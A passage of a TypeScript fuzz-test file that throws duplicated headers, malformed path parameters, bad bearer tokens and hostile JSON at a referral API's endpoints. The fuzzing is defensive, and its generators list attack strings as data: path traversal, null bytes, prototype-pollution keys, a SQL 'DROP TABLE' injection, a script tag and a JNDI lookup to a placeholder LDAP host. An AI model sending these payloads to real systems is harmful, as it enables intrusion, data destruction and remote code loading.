      () => [['Content-Type', 'application/json'], ['Content-Type', 'application/json']],
      () => [['Idempotency-Key', 'dup-a'], ['Idempotency-Key', 'dup-b']],
      (m) => [['Idempotency-Key', `dup-${m}-3`], ['idempotency-key', 'has space']],
      () => [['Idempotency-Key', 'dup-c'], ['Idempotency-Key', 'dup-c']],
      () => [['Accept', 'application/json'], ['Accept', 'text/html']],
      () => [['X-Forwarded-For', '127.0.0.1'], ['X-Forwarded-For', '10.0.0.1']],
      () => [['Cookie', 'a=1'], ['Cookie', 'b=2']],
    );
    const req = fc
      .record({
        dups: fc.array(fc.tuple(duplicates, marker), { minLength: 1, maxLength: 3 }),
        body: fc.oneof(
          { arbitrary: fc.constant<Body>({ kind: 'valid' }), weight: 3 },
          { arbitrary: fc.array(mutation, { maxLength: 1 }).map((mutations): Body => ({ kind: 'mutated', mutations })), weight: 1 },
        ),
      })
      .map(({ dups, body }) => {
        const headers = dups.flatMap(([d, m]) => d(m));
        const names = new Set(headers.map(([k]) => k.toLowerCase()));
        if (!names.has('authorization')) headers.unshift(['Authorization', valid()]);
        if (!names.has('content-type')) headers.unshift(['Content-Type', 'application/json']);
        return intake(headers, body, true);
      });
    await runProperty('duplicated headers', req, 12);
  });

  it('the hostile referrals that were accepted run their journeys without failing', async () => {
    await rt.engine.idle();
    const failed = rt.engine.listExecutions().filter((ex) => ex.status === 'FAILED' || ex.status === 'TIMED_OUT');
    console.log(`hostile-input: ${rt.engine.listExecutions().length} journeys, ${failed.length} failed`);
    expect(failed.map((ex) => `${ex.name}: ${ex.error ?? ''} ${ex.cause ?? ''}`)).toEqual([]);
  });
});

describe('fuzzed path parameters', () => {
  const segment = fc.oneof(
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map((s) => encodeURIComponent(s)), weight: 3 },
    { arbitrary: fc.string({ unit: fc.constantFrom(...alnum, '%', '2', 'F', '.', '-', '_', '~', ';', ':', '@', '=', '+', '$', ',', '!', '*', "'", '(', ')'), maxLength: 40 }), weight: 3 },
    {
      arbitrary: fc.constantFrom(
        '%2F',
        'a%2Fb',
        '..%2F..%2Fadmin',
        '%2E%2E%2F',
        '%252F',
        '%5C',
        '%00',
        '%0A',
        '%',
        '%%',
        '%zz',
        '%E0%A4%A',
        '%C0%AF',
        '%FF',
        '%u002F',
        '.',
        '..',
        '%20',
        'null',
        'undefined',
        '__proto__',
        'constructor',
        '{referralId}',
        '00000000-0000-0000-0000-000000000000',
        'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
      ),
      weight: 2,
    },
    { arbitrary: fc.tuple(marker, fc.constantFrom('<script>', "'; DROP TABLE x; --", '${jndi:ldap://x/a}')).map(([m, s]) => encodeURIComponent(`${s}${m}`)), weight: 1 },
    { arbitrary: fc.constantFrom(1000, 4000, 8000).map((n) => 'a'.repeat(n)), weight: 1 },
    { arbitrary: fc.constantFrom('own', 'other', 'own-upper', 'own-nul', 'own-encoded-slash'), weight: 2 },
  );
  const resolve = (s: string) =>
    s === 'own'
      ? ownReferralId
      : s === 'other'
        ? otherPartnersReferralId
        : s === 'own-upper'
          ? ownReferralId.toUpperCase()
          : s === 'own-nul'
            ? `${ownReferralId}%00`
            : s === 'own-encoded-slash'
              ? `${ownReferralId}%2Fcancel`
              : s;

  it('GET /v1/referrals/{id}', { timeout: 120_000 }, async () => {
    const req = fc
      .record({ id: segment, partner: fc.constantFrom(FUZZ_PARTNER, FUZZ_PARTNER, OTHER_PARTNER), query: fc.option(fc.constantFrom('?x=1', '?id=%', '?__proto__[x]=1', '?a=1&a=2')) })
      .map(({ id, partner, query }): Req => ({
        route: 'status',
        method: 'GET',
        path: `/v1/referrals/${resolve(id)}${query ?? ''}`,
        headers: [auth(partner)],
        body: { kind: 'none' },
      }));
    const stats = await runProperty('GET /v1/referrals/{id}', req, 20);
    expect(stats.byStatus.get(200) ?? 0).toBeGreaterThan(0);
  });

  it('POST /v1/onward-referrals/{id}/status', { timeout: 120_000 }, async () => {
    const status = fc.oneof(
      { arbitrary: fc.constantFrom<J>('accepted', 'declined', 'attended', 'completed', 'did_not_attend'), weight: 4 },
      { arbitrary: fc.constantFrom<J>('pending', 'sent', 'unreachable', 'no_response', 'ACCEPTED', ' accepted'), weight: 1 },
      { arbitrary: leaf, weight: 2 },
    );
    const occurredAt = fc.oneof(
      fc.constantFrom<J>('2026-01-05T08:00:00Z', '2026-01-05T09:00:00+00:00', '2030-01-01T00:00:00Z', '2026-01-05', '2026-13-45T99:99:99Z'),
      leaf,
    );
    const body: fc.Arbitrary<Body> = fc.oneof(
      { arbitrary: fc.record({ status, occurredAt: fc.option(occurredAt, { freq: 2 }) }).map(({ status, occurredAt }): Body => ({ kind: 'json', value: obj([['status', status], ...(occurredAt === null ? [] : [['occurredAt', occurredAt] as [string, J]])]) })), weight: 4 },
      { arbitrary: hostileJson.map((value): Body => ({ kind: 'json', value })), weight: 2 },
      { arbitrary: fc.tuple(hostileKey, value).map(([key, v]): Body => ({ kind: 'json', value: obj([['status', 'accepted'], [key, v]]) })), weight: 1 },
      { arbitrary: fc.string({ maxLength: 100 }).map((text): Body => ({ kind: 'text', text })), weight: 1 },
      { arbitrary: fc.constant<Body>({ kind: 'padded', bytes: 70_000 }), weight: 1 },
    );
    const target = fc.oneof(
      { arbitrary: fc.nat(onwardIds.length).map((i) => ({ id: `onward:${i}` })), weight: 6 },
      { arbitrary: segment.map((id) => ({ id })), weight: 2 },
    );
    const key = fc.oneof(
      { arbitrary: fc.constant('right'), weight: 8 },
      { arbitrary: fc.constantFrom('missing', 'derived-for-random', 'other-onward'), weight: 2 },
      { arbitrary: headerValue.map((v) => `raw:Bearer ${v}`), weight: 1 },
      { arbitrary: fc.constantFrom(`raw:Bearer ${'A'.repeat(300)}`, 'raw:Basic dXNlcjpwYXNz', 'raw:Bearer', 'raw:bearer   x'), weight: 1 },
    );
    const contentType = fc.oneof(
      { arbitrary: fc.constant('application/json'), weight: 6 },
      { arbitrary: fc.constantFrom('text/plain', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded'), weight: 1 },
    );
    const req = fc.record({ target, key, contentType, body }).map(({ target, key, contentType, body }): Req => {
      let id = target.id;
      let realId: string | undefined;
      if (id.startsWith('onward:')) {
        const i = Number(id.slice('onward:'.length));
        realId = onwardIds[i] ?? `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
        id = realId;
      } else {
        id = resolve(id);
      }
      const headers: [string, string][] = [['content-type', contentType]];
      if (key === 'right' && realId) headers.push(['authorization', `Bearer ${providerKeyFor(realId)}`]);
      else if (key === 'right' || key === 'derived-for-random') {
        const someId = realId ?? '00000000-0000-4000-8000-00000000abcd';
        headers.push(['authorization', `Bearer ${providerKeyFor(someId)}`]);
      } else if (key === 'other-onward') headers.push(['authorization', `Bearer ${providerKeyFor(onwardIds[0]!)}`]);
      else if (key.startsWith('raw:')) headers.push(['authorization', key.slice('raw:'.length)]);
      return { route: 'provider', method: 'POST', path: `/v1/onward-referrals/${id}/status`, headers, body };
    });
    await runProperty('POST /v1/onward-referrals/{id}/status', req, 20);
  });
});
